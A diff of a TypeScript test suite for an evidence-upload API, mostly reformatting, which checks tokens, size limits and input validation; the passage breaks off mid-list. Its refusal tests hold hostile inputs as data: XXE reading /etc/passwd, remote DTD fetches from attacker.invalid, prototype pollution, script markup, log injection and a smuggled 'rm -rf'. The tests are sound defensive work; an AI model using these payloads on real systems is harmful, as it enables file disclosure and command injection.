@@ -57,7 +57,9 @@ beforeAll(async () => {
   };
   prisma = getPrisma();
   tokens.writer = (await createToken(prisma, { name: "ci", scopes: ["evidence:write"], createdBy: "test" })).token;
-  tokens.reader = (await createToken(prisma, { name: "dashboard-reader", scopes: ["readiness:read"], createdBy: "test" })).token;
+  tokens.reader = (
+    await createToken(prisma, { name: "dashboard-reader", scopes: ["readiness:read"], createdBy: "test" })
+  ).token;
   tokens.revoked = (await createToken(prisma, { name: "old-ci", scopes: ["evidence:write"], createdBy: "test" })).token;
   await revokeToken(prisma, "old-ci");
 });
@@ -74,9 +76,18 @@ afterAll(async () => {
 type TSendOptions = { query?: string; token?: string | null; headers?: Record<string, string> };
 
 /** What CI sends: the Content-Type each endpoint reads, unless a test says otherwise. */
-const CONTENT_TYPE: Record<TRoute, string> = { junit: "application/xml", k6: "application/json", chaos: "application/json", attestations: "application/json" };
+const CONTENT_TYPE: Record<TRoute, string> = {
+  junit: "application/xml",
+  k6: "application/json",
+  chaos: "application/json",
+  attestations: "application/json",
+};
 
-function buildRequest(route: TRoute, body: BodyInit | null, { query = "", token = tokens.writer, headers = {} }: TSendOptions = {}): Request {
+function buildRequest(
+  route: TRoute,
+  body: BodyInit | null,
+  { query = "", token = tokens.writer, headers = {} }: TSendOptions = {},
+): Request {
   // A FormData body brings its own multipart Content-Type.
   const type = body instanceof FormData ? {} : { "content-type": CONTENT_TYPE[route] };
   return new Request(`http://preflight.test/api/v1/evidence/${route}${query ? `?${query}` : ""}`, {
@@ -101,7 +112,13 @@ async function countRows() {
     prisma.attestation.count(),
     prisma.readinessSnapshot.count(),
   ]);
-  return { test_run: testRun, load_test_run: loadTestRun, chaos_run: chaosRun, attestation, readiness_snapshot: readinessSnapshot };
+  return {
+    test_run: testRun,
+    load_test_run: loadTestRun,
+    chaos_run: chaosRun,
+    attestation,
+    readiness_snapshot: readinessSnapshot,
+  };
 }
 
 /** Sends the request and checks that it is refused with `status` and a message containing `error`, storing nothing. */
@@ -109,13 +126,21 @@ async function expectRefused(push: () => Promise<Response>, status: number, erro
   const before = await countRows();
   const response = await push();
   const text = await response.text();
-  expect({ status: response.status, error: (JSON.parse(text) as { error?: unknown }).error }).toEqual({ status, error: expect.stringContaining(error) });
+  expect({ status: response.status, error: (JSON.parse(text) as { error?: unknown }).error }).toEqual({
+    status,
+    error: expect.stringContaining(error),
+  });
   expect(response.headers.get("cache-control")).toBe("no-store");
   expect(await countRows()).toEqual(before);
   return text;
 }
 
-type TAccepted = { id: string; kind: string; summary: Record<string, unknown>; readiness: { overallPct: number | null; blockers: number; snapshot: string | null } | null };
+type TAccepted = {
+  id: string;
+  kind: string;
+  summary: Record<string, unknown>;
+  readiness: { overallPct: number | null; blockers: number; snapshot: string | null } | null;
+};
 
 async function expectStored(response: Response): Promise<TAccepted> {
   const body = (await response.json()) as TAccepted;
@@ -132,8 +157,19 @@ const minutesFromNow = (minutes: number) => new Date(Date.now() + minutes * 60_0
 const JUNIT_QUERY = "suite=gateway&kind=integration";
 const VALID_JUNIT = `<testsuite name="gateway"><testcase name="a"/><testcase name="b"/></testsuite>`;
 const validK6 = () => fixtureJson("k6-summary-export.json");
-const validChaos = () => ({ name: "api-pod-delete-pod-delete", fault: "pod-delete", target: "api", startedAt: minutesFromNow(-10), endedAt: minutesFromNow(-8) });
-const validAttestation = () => ({ check: "backup-restore", answer: "yes", evidenceUrl: "https://wiki.example.com/runbooks/restore-2026-q4", expiresAt: minutesFromNow(90 * 24 * 60) });
+const validChaos = () => ({
+  name: "api-pod-delete-pod-delete",
+  fault: "pod-delete",
+  target: "api",
+  startedAt: minutesFromNow(-10),
+  endedAt: minutesFromNow(-8),
+});
+const validAttestation = () => ({
+  check: "backup-restore",
+  answer: "yes",
+  evidenceUrl: "https://wiki.example.com/runbooks/restore-2026-q4",
+  expiresAt: minutesFromNow(90 * 24 * 60),
+});
 const litmus = (status?: { phase: string; verdict: string }) => {
   const result = fixtureJson("litmus-chaosresult-pod-delete.json");
   return status ? { ...result, status: { experimentStatus: { ...status, probeSuccessPercentage: "0" } } } : result;
@@ -155,18 +191,38 @@ const DOCTYPE_REFUSED = "DOCTYPE and entities are not accepted";
 describe("the token", () => {
   const cases: [string, () => string | null, number, string][] = [
     ["no Authorization header is 401", () => null, 401, "missing Authorization header"],
-    ["a Basic header is 401", () => `Basic ${Buffer.from("ci:secret").toString("base64")}`, 401, "expected `Authorization: Bearer pf_…`"],
-    ["a bearer that is not a Preflight token is 401", () => "Bearer eyJhbGciOiJIUzI1NiJ9.e30.x", 401, "not a Preflight token"],
+    [
+      "a Basic header is 401",
+      () => `Basic ${Buffer.from("ci:secret").toString("base64")}`,
+      401,
+      "expected `Authorization: Bearer pf_…`",
+    ],
+    [
+      "a bearer that is not a Preflight token is 401",
+      () => "Bearer eyJhbGciOiJIUzI1NiJ9.e30.x",
+      401,
+      "not a Preflight token",
+    ],
     ["a well-formed pf_ token that was never issued is 401", () => `Bearer ${generateToken()}`, 401, "unknown token"],
     ["a revoked token is 401", () => `Bearer ${tokens.revoked}`, 401, 'token "old-ci" was revoked'],
-    ["a token with only readiness:read is 403", () => `Bearer ${tokens.reader}`, 403, 'token "dashboard-reader" lacks the evidence:write scope'],
+    [
+      "a token with only readiness:read is 403",
+      () => `Bearer ${tokens.reader}`,
+      403,
+      'token "dashboard-reader" lacks the evidence:write scope',
+    ],
   ];
 
   describe.each(ROUTES)("on /%s, even with a valid body", (route) => {
     it.each(cases)("%s and stores nothing", async (_name, header, status, error) => {
       const authorization = header();
       const text = await expectRefused(
-        () => send(route, VALID[route].body(), { query: VALID[route].query, token: null, headers: authorization === null ? {} : { authorization } }),
+        () =>
+          send(route, VALID[route].body(), {
+            query: VALID[route].query,
+            token: null,
+            headers: authorization === null ? {} : { authorization },
+          }),
         status,
         error,
       );
@@ -177,13 +233,24 @@ describe("the token", () => {
 
   it("is checked before a byte of the body is read", async () => {
     let pulls = 0;
-    const body = new ReadableStream<Uint8Array>({ pull: (controller) => void (pulls++, controller.enqueue(new TextEncoder().encode(VALID_JUNIT))) }, { highWaterMark: 0 });
-    await expectRefused(() => send("junit", body, { query: JUNIT_QUERY, token: null }), 401, "missing Authorization header");
+    const body = new ReadableStream<Uint8Array>(
+      { pull: (controller) => void (pulls++, controller.enqueue(new TextEncoder().encode(VALID_JUNIT))) },
+      { highWaterMark: 0 },
+    );
+    await expectRefused(
+      () => send("junit", body, { query: JUNIT_QUERY, token: null }),
+      401,
+      "missing Authorization header",
+    );
     expect(pulls).toBe(0);
   });
 
   it("is checked before the size: an anonymous oversized upload is 401, not 413", async () => {
-    await expectRefused(() => send("junit", "x".repeat(MAX_UPLOAD_BYTES + 1), { query: JUNIT_QUERY, token: generateToken() }), 401, "unknown token");
+    await expectRefused(
+      () => send("junit", "x".repeat(MAX_UPLOAD_BYTES + 1), { query: JUNIT_QUERY, token: generateToken() }),
+      401,
+      "unknown token",
+    );
   });
 });
 
@@ -192,12 +259,35 @@ describe("accepted evidence", () => {
     const response = await send("junit", fixture("junit-surefire-flaky.xml"), { query: JUNIT_QUERY });
     const { id, kind, summary, readiness } = await expectStored(response);
     expect(kind).toBe("junit");
-    expect(summary).toMatchObject({ suite: "gateway", kind: "integration", tests: 7, passed: 2, failed: 1, errors: 1, skipped: 1, flaky: 2 });
+    expect(summary).toMatchObject({
+      suite: "gateway",
+      kind: "integration",
+      tests: 7,
+      passed: 2,
+      failed: 1,
+      errors: 1,
+      skipped: 1,
+      flaky: 2,
+    });
     const row = await prisma.testRun.findUniqueOrThrow({ where: { id: BigInt(id) } });
-    expect(row).toMatchObject({ suite: "gateway", kind: "integration", source: "token ci", tests: 7, passed: 2, failed: 1, errors: 1, skipped: 1, flaky: 2 });
+    expect(row).toMatchObject({
+      suite: "gateway",
+      kind: "integration",
+      source: "token ci",
+      tests: 7,
+      passed: 2,
+      failed: 1,
+      errors: 1,
+      skipped: 1,
+      flaky: 2,
+    });
     expect(row.passRatePct).toBeCloseTo((4 / 6) * 100, 10);
     expect(row.flakyTests).toHaveLength(2);
-    expect(readiness).toEqual({ overallPct: expect.any(Number), blockers: expect.any(Number), snapshot: expect.stringMatching(/^[0-9a-f]{64}$/) });
+    expect(readiness).toEqual({
+      overallPct: expect.any(Number),
+      blockers: expect.any(Number),
+      snapshot: expect.stringMatching(/^[0-9a-f]{64}$/),
+    });
   });
 
   it.each([
@@ -206,24 +296,53 @@ describe("accepted evidence", () => {
     ["pytest xunit1", "junit-pytest-xunit1.xml", 9],
     ["pytest xunit2", "junit-pytest-xunit2.xml", 9],
   ])("stores a %s report as it counts it", async (_tool, file, tests) => {
-    const { id, summary } = await expectStored(await send("junit", fixture(file), { query: "suite=unit tests/node-20&kind=unit" }));
+    const { id, summary } = await expectStored(
+      await send("junit", fixture(file), { query: "suite=unit tests/node-20&kind=unit" }),
+    );
     expect(summary.tests).toBe(tests);
-    expect(await prisma.testRun.findUniqueOrThrow({ where: { id: BigInt(id) } })).toMatchObject({ tests, suite: "unit tests/node-20", kind: "unit" });
+    expect(await prisma.testRun.findUniqueOrThrow({ where: { id: BigInt(id) } })).toMatchObject({
+      tests,
+      suite: "unit tests/node-20",
+      kind: "unit",
+    });
   });
 
   it("accepts a report of exactly the size limit", async () => {
     const open = `<testsuite name="gateway"><testcase name="a"/></testsuite><!--`;
     const xml = `${open}${" ".repeat(MAX_UPLOAD_BYTES - open.length - 3)}-->`;
     expect(Buffer.byteLength(xml)).toBe(MAX_UPLOAD_BYTES);
-    await expectStored(await send("junit", xml, { query: JUNIT_QUERY, headers: { "content-length": String(MAX_UPLOAD_BYTES) } }));
+    await expectStored(
+      await send("junit", xml, { query: JUNIT_QUERY, headers: { "content-length": String(MAX_UPLOAD_BYTES) } }),
+    );
   });
 
   it("stores a --summary-export k6 summary with its thresholds' verdict (true there means crossed)", async () => {
-    const { id, summary, readiness } = await expectStored(await send("k6", JSON.stringify(validK6()), { query: "test=checkout", headers: { "content-type": "application/json" } }));
-    expect(summary).toMatchObject({ test: "checkout", shape: "summary-export", p95Ms: 191.5624, allThresholdsPassed: false });
-    expect(summary.thresholds).toContainEqual(expect.objectContaining({ metric: "checks", name: "rate>0.98", passed: true }));
+    const { id, summary, readiness } = await expectStored(
+      await send("k6", JSON.stringify(validK6()), {
+        query: "test=checkout",
+        headers: { "content-type": "application/json" },
+      }),
+    );
+    expect(summary).toMatchObject({
+      test: "checkout",
+      shape: "summary-export",
+      p95Ms: 191.5624,
+      allThresholdsPassed: false,
+    });
+    expect(summary.thresholds).toContainEqual(
+      expect.objectContaining({ metric: "checks", name: "rate>0.98", passed: true }),
+    );
     const row = await prisma.loadTestRun.findUniqueOrThrow({ where: { id: BigInt(id) } });
-    expect(row).toMatchObject({ test: "checkout", shape: "summary-export", p95Ms: 191.5624, p99Ms: 402.8765, allThresholdsPassed: false, checksPassed: 10694, checksFailed: 130, durationS: null });
+    expect(row).toMatchObject({
+      test: "checkout",
+      shape: "summary-export",
+      p95Ms: 191.5624,
+      p99Ms: 402.8765,
+      allThresholdsPassed: false,
+      checksPassed: 10694,
+      checksFailed: 130,
+      durationS: null,
+    });
     expect(readiness).not.toBeNull();
   });
 
@@ -232,14 +351,24 @@ describe("accepted evidence", () => {
     ["machine-readable", "k6-machine-readable.json"],
   ])("stores a k6 summary in the %s shape", async (shape, file) => {
     const { id } = await expectStored(await send("k6", fixture(file), { query: "test=checkout" }));
-    expect(await prisma.loadTestRun.findUniqueOrThrow({ where: { id: BigInt(id) } })).toMatchObject({ shape, p95Ms: 191.5624 });
+    expect(await prisma.loadTestRun.findUniqueOrThrow({ where: { id: BigInt(id) } })).toMatchObject({
+      shape,
+      p95Ms: 191.5624,
+    });
   });
 
   it("stores a chaos experiment", async () => {
     const experiment = { ...validChaos(), expectedRecoveryS: 30 };
     const { id, readiness } = await expectStored(await send("chaos", JSON.stringify(experiment)));
     const row = await prisma.chaosRun.findUniqueOrThrow({ where: { id: BigInt(id) } });
-    expect(row).toMatchObject({ name: experiment.name, fault: "pod-delete", target: "api", expectedRecoveryS: 30, verdict: null, source: "token ci" });
+    expect(row).toMatchObject({
+      name: experiment.name,
+      fault: "pod-delete",
+      target: "api",
+      expectedRecoveryS: 30,
+      verdict: null,
+      source: "token ci",
+    });
     expect(row.startedAt.toISOString()).toBe(experiment.startedAt);
     expect(row.endedAt.toISOString()).toBe(experiment.endedAt);
     expect(readiness).not.toBeNull();
@@ -248,8 +377,16 @@ describe("accepted evidence", () => {
   it("stores a Litmus ChaosResult for the component named in ?target=, timed from its metadata", async () => {
     const { id } = await expectStored(await send("chaos", JSON.stringify(litmus()), { query: "target=api" }));
     const row = await prisma.chaosRun.findUniqueOrThrow({ where: { id: BigInt(id) } });
-    expect(row).toMatchObject({ name: "api-pod-delete-pod-delete", fault: "pod-delete", target: "api", verdict: "Pass" });
-    expect([row.startedAt.toISOString(), row.endedAt.toISOString()]).toEqual(["2026-11-26T13:58:04.000Z", "2026-11-26T13:59:41.000Z"]);
+    expect(row).toMatchObject({
+      name: "api-pod-delete-pod-delete",
+      fault: "pod-delete",
+      target: "api",
+      verdict: "Pass",
+    });
+    expect([row.startedAt.toISOString(), row.endedAt.toISOString()]).toEqual([
+      "2026-11-26T13:58:04.000Z",
+      "2026-11-26T13:59:41.000Z",
+    ]);
   });
 
   it("stores an attestation, attested by the pipeline's token unless the body names someone", async () => {
@@ -264,8 +401,17 @@ describe("accepted evidence", () => {
       expiresAt: new Date(input.expiresAt),
       source: "token ci",
     });
-    const second = await expectStored(await send("attestations", JSON.stringify({ ...input, answer: "no", comment: "restore took 3 h", attestedBy: "ops@example.com" })));
-    expect(await prisma.attestation.findUniqueOrThrow({ where: { id: BigInt(second.id) } })).toMatchObject({ answer: "no", comment: "restore took 3 h", attestedBy: "ops@example.com" });
+    const second = await expectStored(
+      await send(
+        "attestations",
+        JSON.stringify({ ...input, answer: "no", comment: "restore took 3 h", attestedBy: "ops@example.com" }),
+      ),
+    );
+    expect(await prisma.attestation.findUniqueOrThrow({ where: { id: BigInt(second.id) } })).toMatchObject({
+      answer: "no",
+      comment: "restore took 3 h",
+      attestedBy: "ops@example.com",
+    });
     expect(second.readiness).not.toBeNull();
   });
 });
@@ -282,16 +428,61 @@ describe("JUnit reports refused", () => {
 
   it.each([
     ["a billion-laughs entity bomb", BILLION_LAUGHS, DOCTYPE_REFUSED, 422],
-    ["an external entity reading /etc/passwd (XXE)", `<!DOCTYPE testsuite [<!ENTITY x SYSTEM "file:///etc/passwd">]><testsuite><testcase name="&x;"/></testsuite>`, DOCTYPE_REFUSED, 422],
-    ["an external DTD", `<?xml version="1.0"?><!DOCTYPE testsuite SYSTEM "http://attacker.invalid/junit.dtd"><testsuite><testcase name="a"/></testsuite>`, DOCTYPE_REFUSED, 422],
-    ["a parameter entity fetching a remote DTD", `<!DOCTYPE testsuite [<!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd"> %remote;]><testsuite><testcase name="a"/></testsuite>`, DOCTYPE_REFUSED, 422],
-    ["a truncated report", `<testsuites>\n<testsuite name="gateway">\n<testcase name="a"><failure>boom`, "the document ends while <testsuites>, <testsuite>, <testcase>, <failure> are still open (truncated?)", 400],
-    ["an HTML error page instead of the report", `<html><head><title>502 Bad Gateway</title></head><body>nginx</body></html>`, "expected JUnit XML, got an HTML page", 400],
-    ["a document with the wrong root element", `<results><test name="a"/></results>`, "expected <testsuites> or <testsuite> as the root element, got <results>", 422],
-    ["two root elements", `<testsuite><testcase name="a"/></testsuite><testsuite><testcase name="b"/></testsuite>`, "Multiple possible root nodes found", 400],
-    ["a report with no testcase at all", `<testsuites><testsuite name="gateway" tests="0"/></testsuites>`, "the report has no <testcase> elements: nothing to count", 422],
+    [
+      "an external entity reading /etc/passwd (XXE)",
+      `<!DOCTYPE testsuite [<!ENTITY x SYSTEM "file:///etc/passwd">]><testsuite><testcase name="&x;"/></testsuite>`,
+      DOCTYPE_REFUSED,
+      422,
+    ],
+    [
+      "an external DTD",
+      `<?xml version="1.0"?><!DOCTYPE testsuite SYSTEM "http://attacker.invalid/junit.dtd"><testsuite><testcase name="a"/></testsuite>`,
+      DOCTYPE_REFUSED,
+      422,
+    ],
+    [
+      "a parameter entity fetching a remote DTD",
+      `<!DOCTYPE testsuite [<!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd"> %remote;]><testsuite><testcase name="a"/></testsuite>`,
+      DOCTYPE_REFUSED,
+      422,
+    ],
+    [
+      "a truncated report",
+      `<testsuites>\n<testsuite name="gateway">\n<testcase name="a"><failure>boom`,
+      "the document ends while <testsuites>, <testsuite>, <testcase>, <failure> are still open (truncated?)",
+      400,
+    ],
+    [
+      "an HTML error page instead of the report",
+      `<html><head><title>502 Bad Gateway</title></head><body>nginx</body></html>`,
+      "expected JUnit XML, got an HTML page",
+      400,
+    ],
+    [
+      "a document with the wrong root element",
+      `<results><test name="a"/></results>`,
+      "expected <testsuites> or <testsuite> as the root element, got <results>",
+      422,
+    ],
+    [
+      "two root elements",
+      `<testsuite><testcase name="a"/></testsuite><testsuite><testcase name="b"/></testsuite>`,
+      "Multiple possible root nodes found",
+      400,
+    ],
+    [
+      "a report with no testcase at all",
+      `<testsuites><testsuite name="gateway" tests="0"/></testsuites>`,
+      "the report has no <testcase> elements: nothing to count",
+      422,
+    ],
     ["a k6 summary sent to the JUnit endpoint", JSON.stringify({ metrics: {} }), "expected JUnit XML, got JSON", 400],
-    ["element names that would pollute Object.prototype", `<testsuite><__proto__><polluted>yes</polluted></__proto__><testcase name="a"/></testsuite>`, '"__proto__" is a reserved JavaScript keyword', 400],
+    [
+      "element names that would pollute Object.prototype",
+      `<testsuite><__proto__><polluted>yes</polluted></__proto__><testcase name="a"/></testsuite>`,
+      '"__proto__" is a reserved JavaScript keyword',
+      400,
+    ],
   ])("%s", async (_name, xml, error, status) => {
     await expectRefused(() => send("junit", xml, { query: JUNIT_QUERY }), status, error);
     expect(({} as Record<string, unknown>).polluted).toBeUndefined();
@@ -300,11 +491,31 @@ describe("JUnit reports refused", () => {
   it.each([
     ["no ?suite=", "kind=unit", "the suite name (?suite=) is required"],
     ["an empty ?suite=", "suite=&kind=unit", "the suite name (?suite=) is required"],
-    ["a suite name with markup in it", `suite=${encodeURIComponent("<script>alert(1)</script>")}&kind=unit`, 'invalid suite name (?suite=) "<script>alert(1)</script>": expected 1-100 letters'],
-    ["a suite name with a newline (log injection)", `suite=${encodeURIComponent("gateway\nERROR forged line")}&kind=unit`, "invalid suite name (?suite=)"],
-    ["a suite name of 101 characters", `suite=${"a".repeat(101)}&kind=unit`, "expected 1-100 letters, digits, spaces or . _ : / @ + -"],
-    ["no ?kind=", "suite=gateway", "the kind (?kind=) is required: expected one of unit, integration, security, performance, e2e"],
-    ["an unknown ?kind=", "suite=gateway&kind=smoke", 'invalid kind "smoke": expected one of unit, integration, security, performance, e2e'],
+    [
+      "a suite name with markup in it",
+      `suite=${encodeURIComponent("<script>alert(1)</script>")}&kind=unit`,
+      'invalid suite name (?suite=) "<script>alert(1)</script>": expected 1-100 letters',
+    ],
+    [
+      "a suite name with a newline (log injection)",
+      `suite=${encodeURIComponent("gateway\nERROR forged line")}&kind=unit`,
+      "invalid suite name (?suite=)",
+    ],
+    [
+      "a suite name of 101 characters",
+      `suite=${"a".repeat(101)}&kind=unit`,
+      "expected 1-100 letters, digits, spaces or . _ : / @ + -",
+    ],
+    [
+      "no ?kind=",
+      "suite=gateway",
+      "the kind (?kind=) is required: expected one of unit, integration, security, performance, e2e",
+    ],
+    [
+      "an unknown ?kind=",
+      "suite=gateway&kind=smoke",
+      'invalid kind "smoke": expected one of unit, integration, security, performance, e2e',
+    ],
     ["a ?kind= in the wrong case", "suite=gateway&kind=Unit", 'invalid kind "Unit"'],
   ])("a valid report with %s", async (_name, query, error) => {
     await expectRefused(() => send("junit", VALID_JUNIT, { query }), 422, error);
@@ -312,12 +523,23 @@ describe("JUnit reports refused", () => {
 });
 
 describe("bodies refused before any parser sees them", () => {
-  it.each(ROUTES)("/%s refuses a declared Content-Length over the limit with 413, without reading the body", async (route) => {
-    let pulls = 0;
-    const body = new ReadableStream<Uint8Array>({ pull: (controller) => void (pulls++, controller.close()) }, { highWaterMark: 0 });
-    await expectRefused(() => send(route, body, { query: VALID[route].query, headers: { "content-length": String(MAX_UPLOAD_BYTES + 1) } }), 413, "the body is larger than the 64 KiB limit");
-    expect(pulls).toBe(0);
-  });
+  it.each(ROUTES)(
+    "/%s refuses a declared Content-Length over the limit with 413, without reading the body",
+    async (route) => {
+      let pulls = 0;
+      const body = new ReadableStream<Uint8Array>(
+        { pull: (controller) => void (pulls++, controller.close()) },
+        { highWaterMark: 0 },
+      );
+      await expectRefused(
+        () =>
+          send(route, body, { query: VALID[route].query, headers: { "content-length": String(MAX_UPLOAD_BYTES + 1) } }),
+        413,
+        "the body is larger than the 64 KiB limit",
+      );
+      expect(pulls).toBe(0);
+    },
+  );
 
   it("refuses a chunked body with no Content-Length once it passes the limit, without reading the rest (413)", async () => {
     const chunk = new TextEncoder().encode(`<testcase name="${"x".repeat(8_000)}"/>`);
@@ -326,20 +548,31 @@ describe("bodies refused before any parser sees them", () => {
       { pull: (controller) => void (++pulls === 1000 ? controller.close() : controller.enqueue(chunk)) },
       { highWaterMark: 0 },
     );
-    await expectRefused(() => send("junit", body, { query: JUNIT_QUERY }), 413, "the body is larger than the 64 KiB limit");
+    await expectRefused(
+      () => send("junit", body, { query: JUNIT_QUERY }),
+      413,
+      "the body is larger than the 64 KiB limit",
+    );
     expect(pulls).toBeLessThanOrEqual(Math.ceil(MAX_UPLOAD_BYTES / chunk.byteLength) + 1);
   });
 
   it("refuses a body larger than its lying Content-Length says (413)", async () => {
     const xml = `<testsuite name="gateway"><testcase name="a"/></testsuite><!--${"x".repeat(MAX_UPLOAD_BYTES)}-->`;
-    await expectRefused(() => send("junit", xml, { query: JUNIT_QUERY, headers: { "content-length": "100" } }), 413, "the body is larger than the 64 KiB limit");
+    await expectRefused(
+      () => send("junit", xml, { query: JUNIT_QUERY, headers: { "content-length": "100" } }),
+      413,
+      "the body is larger than the 64 KiB limit",
+    );
   });
 
-  it.each(ROUTES)("/%s refuses a multipart form upload with 415, saying to send the file as the body", async (route) => {
-    const form = new FormData();
-    form.set("file", new Blob([VALID[route].body()]), "report");
-    await expectRefused(() => send(route, form, { query: VALID[route].query }), 415, "not as a multipart form");
-  });
+  it.each(ROUTES)(
+    "/%s refuses a multipart form upload with 415, saying to send the file as the body",
+    async (route) => {
+      const form = new FormData();
+      form.set("file", new Blob([VALID[route].body()]), "report");
+      await expectRefused(() => send(route, form, { query: VALID[route].query }), 415, "not as a multipart form");
+    },
+  );
 
   it.each([
     ["no body at all", null],
@@ -354,16 +587,24 @@ describe("bodies refused before any parser sees them", () => {
 
   it.each([
     ["Latin-1 bytes", Buffer.from(`<testsuite name="caf\u00e9"><testcase name="a"/></testsuite>`, "latin1")],
-    ["a UTF-16 report with a byte-order mark", Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(VALID_JUNIT, "utf16le")])],
+    [
+      "a UTF-16 report with a byte-order mark",
+      Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(VALID_JUNIT, "utf16le")]),
+    ],
     ["bytes that are no text at all", Buffer.from([0x3c, 0xc3, 0x28, 0xa0, 0xa1, 0xf0, 0x28, 0x8c, 0xbc])],
   ])("refuses %s as not UTF-8 (400)", async (_name, bytes) => {
-    await expectRefused(() => send("junit", new Uint8Array(bytes), { query: JUNIT_QUERY }), 400, "the body is not UTF-8: byte 0x");
+    await expectRefused(
+      () => send("junit", new Uint8Array(bytes), { query: JUNIT_QUERY }),
+      400,
+      "the body is not UTF-8: byte 0x",
+    );
   });
 });
 
 describe("k6 summaries refused", () => {
   const summary = validK6() as { root_group: unknown; metrics: Record<string, Record<string, unknown>> };
-  const withMetric = (name: string, value: unknown) => JSON.stringify({ ...summary, metrics: { ...summary.metrics, [name]: value } });
+  const withMetric = (name: string, value: unknown) =>
+    JSON.stringify({ ...summary, metrics: { ...summary.metrics, [name]: value } });
 
   it.each([
     ["text that is not JSON", "p(95)=191ms", "the body is not valid JSON"],
@@ -371,20 +612,56 @@ describe("k6 summaries refused", () => {
     ["a JSON array", "[]", "expected a k6 summary object, got an array"],
     ["a JSON string", '"metrics"', "expected a k6 summary object, got a string"],
     ["JSON null", "null", "expected a k6 summary object, got null"],
-    ["a summary JSON-encoded twice, as a string", JSON.stringify(JSON.stringify(summary)), "expected a k6 summary object, got a string"],
-    ["an object without metrics", JSON.stringify({ root_group: summary.root_group }), 'expected a k6 summary: handleSummary() data or --summary-export output (with "metrics")'],
-    ["a summary with no HTTP request durations", JSON.stringify({ metrics: { checks: summary.metrics.checks } }), "metrics.http_req_duration: missing: the summary has no HTTP request durations"],
-    ["a P95 given as a string", withMetric("http_req_duration", { ...summary.metrics.http_req_duration, "p(95)": "191ms" }), 'metrics.http_req_duration["p(95)"]: expected number, received string'],
-    ["a negative latency", withMetric("http_req_duration", { ...summary.metrics.http_req_duration, avg: -1 }), "metrics.http_req_duration.avg: Too small"],
-    ["an error rate above 100 %", withMetric("http_req_failed", { ...summary.metrics.http_req_failed, value: 3 }), "metrics.http_req_failed.value: Too big"],
-    ["a machine-readable summary of an unknown major version", JSON.stringify({ ...fixtureJson("k6-machine-readable.json"), version: "2.0.0" }), "unsupported machine-readable summary version 2.0.0"],
+    [
+      "a summary JSON-encoded twice, as a string",
+      JSON.stringify(JSON.stringify(summary)),
+      "expected a k6 summary object, got a string",
+    ],
+    [
+      "an object without metrics",
+      JSON.stringify({ root_group: summary.root_group }),
+      'expected a k6 summary: handleSummary() data or --summary-export output (with "metrics")',
+    ],
+    [
+      "a summary with no HTTP request durations",
+      JSON.stringify({ metrics: { checks: summary.metrics.checks } }),
+      "metrics.http_req_duration: missing: the summary has no HTTP request durations",
+    ],
+    [
+      "a P95 given as a string",
+      withMetric("http_req_duration", { ...summary.metrics.http_req_duration, "p(95)": "191ms" }),
+      'metrics.http_req_duration["p(95)"]: expected number, received string',
+    ],
+    [
+      "a negative latency",
+      withMetric("http_req_duration", { ...summary.metrics.http_req_duration, avg: -1 }),
+      "metrics.http_req_duration.avg: Too small",
+    ],
+    [
+      "an error rate above 100 %",
+      withMetric("http_req_failed", { ...summary.metrics.http_req_failed, value: 3 }),
+      "metrics.http_req_failed.value: Too big",
+    ],
+    [
+      "a machine-readable summary of an unknown major version",
+      JSON.stringify({ ...fixtureJson("k6-machine-readable.json"), version: "2.0.0" }),
+      "unsupported machine-readable summary version 2.0.0",
+    ],
   ])("%s", async (_name, body, error) => {
-    await expectRefused(() => send("k6", body, { query: "test=checkout" }), error.startsWith("the body is not valid JSON") ? 400 : 422, error);
+    await expectRefused(
+      () => send("k6", body, { query: "test=checkout" }),
+      error.startsWith("the body is not valid JSON") ? 400 : 422,
+      error,
+    );
   });
 
   it.each([
     ["no ?test=", "", "the load-test name (?test=) is required"],
-    ["a ?test= with a shell metacharacter", "test=checkout%3Brm%20-rf", 'invalid load-test name (?test=) "checkout;rm -rf"'],
+    [
+      "a ?test= with a shell metacharacter",
+      "test=checkout%3Brm%20-rf",
+      'invalid load-test name (?test=) "checkout;rm -rf"',
+    ],
   ])("a valid summary with %s", async (_name, query, error) => {
     await expectRefused(() => send("k6", JSON.stringify(summary), { query }), 422, error);
   });
@@ -393,19 +670,74 @@ describe("k6 summaries refused", () => {
 describe("chaos experiments refused", () => {
   it.each([
     ["a JSON array", [validChaos()], "", "expected a chaos experiment object or a Litmus ChaosResult, got an array"],
-    ["an unknown target component", { ...validChaos(), target: "payments" }, "", 'no component with id "payments": the target must be one of api'],
-    ["a target that is not an id", { ...validChaos(), target: "API Server" }, "", "invalid chaos experiment: target: expected an id of lowercase letters"],
-    ["endedAt before startedAt", { ...validChaos(), startedAt: minutesFromNow(-5), endedAt: minutesFromNow(-10) }, "", "invalid chaos experiment: endedAt: endedAt is before startedAt"],
-    ["endedAt a day in the future", { ...validChaos(), endedAt: minutesFromNow(24 * 60) }, "", "is in the future: send the experiment once the fault has ended"],
-    ["a time without a zone", { ...validChaos(), startedAt: "2026-11-26 13:58:04" }, "", "invalid chaos experiment: startedAt: expected an ISO 8601 time with a zone"],
-    ["wrong types", { ...validChaos(), name: 42, startedAt: Date.now() }, "", "invalid chaos experiment: name: expected string, received number (and 1 more)"],
+    [
+      "an unknown target component",
+      { ...validChaos(), target: "payments" },
+      "",
+      'no component with id "payments": the target must be one of api',
+    ],
+    [
+      "a target that is not an id",
+      { ...validChaos(), target: "API Server" },
+      "",
+      "invalid chaos experiment: target: expected an id of lowercase letters",
+    ],
+    [
+      "endedAt before startedAt",
+      { ...validChaos(), startedAt: minutesFromNow(-5), endedAt: minutesFromNow(-10) },
+      "",
+      "invalid chaos experiment: endedAt: endedAt is before startedAt",
+    ],
+    [
+      "endedAt a day in the future",
+      { ...validChaos(), endedAt: minutesFromNow(24 * 60) },
+      "",
+      "is in the future: send the experiment once the fault has ended",
+    ],
+    [
+      "a time without a zone",
+      { ...validChaos(), startedAt: "2026-11-26 13:58:04" },
+      "",
+      "invalid chaos experiment: startedAt: expected an ISO 8601 time with a zone",
+    ],
+    [
+      "wrong types",
+      { ...validChaos(), name: 42, startedAt: Date.now() },
+      "",
+      "invalid chaos experiment: name: expected string, received number (and 1 more)",
+    ],
     ["no fields at all", {}, "", "invalid chaos experiment: name:"],
-    ["a Litmus ChaosResult without ?target=", litmus(), "", "a Litmus ChaosResult needs the target component: add ?target=COMPONENT_ID"],
+    [
+      "a Litmus ChaosResult without ?target=",
+      litmus(),
+      "",
